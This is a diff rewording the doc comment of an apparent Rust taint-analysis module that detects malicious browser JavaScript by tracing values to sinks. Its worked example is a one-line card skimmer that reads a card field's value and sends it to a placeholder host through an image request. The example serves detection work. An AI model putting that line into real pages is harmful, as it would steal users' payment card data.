@@ -1,10 +1,10 @@
 //! Taint: where values come from, what is done to them, and where they go.
 //!
-//! A flow-insensitive analysis of the normalised stream, so that it sees through encoded names and works where nothing
-//! parses: every variable, property and expression is a [node](graph), every assignment, argument and return an edge, and
-//! [marks](Mark) such as "value of a form field" or "absolute address" spread along the edges to [sinks](Sink). Nothing is
-//! executed and no order of statements is assumed, so a flow says what may happen. Work and memory are linear in the items:
-//! a node has at most 64 marks and passes each on once.
+//! A flow-insensitive analysis of the normalised stream, so that it sees through encoded names and works where nothing parses.
+//! Every variable, property and expression is a [node](graph), every assignment, argument and return an edge. [Marks](Mark) such
+//! as "value of a form field" or "absolute address" spread along the edges to [sinks](Sink). Nothing is executed and no order of
+//! statements is assumed, so a flow says what may happen. Work and memory are linear in the items: a node has at most 64 marks
+//! and passes each on once.
 //!
 //! In and out: `var v = card.value; new Image().src = '//c.example/?' + v` gives one [`Flow`] to [`Sink::Fetched`] with the
 //! marks `Field`, `Address` and `ImageElement`, from the item of `value` to the item of `src`.
@@ -12,8 +12,8 @@
 //! Neighbours: it reads the [stream](crate::stream) and its facts, and the browser names of [`Lexicon`]. [`of_flows`] makes
 //! facts of flows, which signals combine with others; [`AddressUse`]s go into the report and to signatures.
 //!
-//! What must not be done here: rely on the order of statements (attackers choose it, and handlers run later anyway), read the
-//! vocabulary of the model (a new model would change findings), or decide what is malicious (signals do, with more to go by).
+//! What must not be done here: rely on the order of statements, which attackers choose; handlers run later anyway. Nor read the
+//! model's vocabulary, because a new model would change findings. Nor decide what is malicious: signals do, with more facts.
 
 mod abroad;
 mod address;
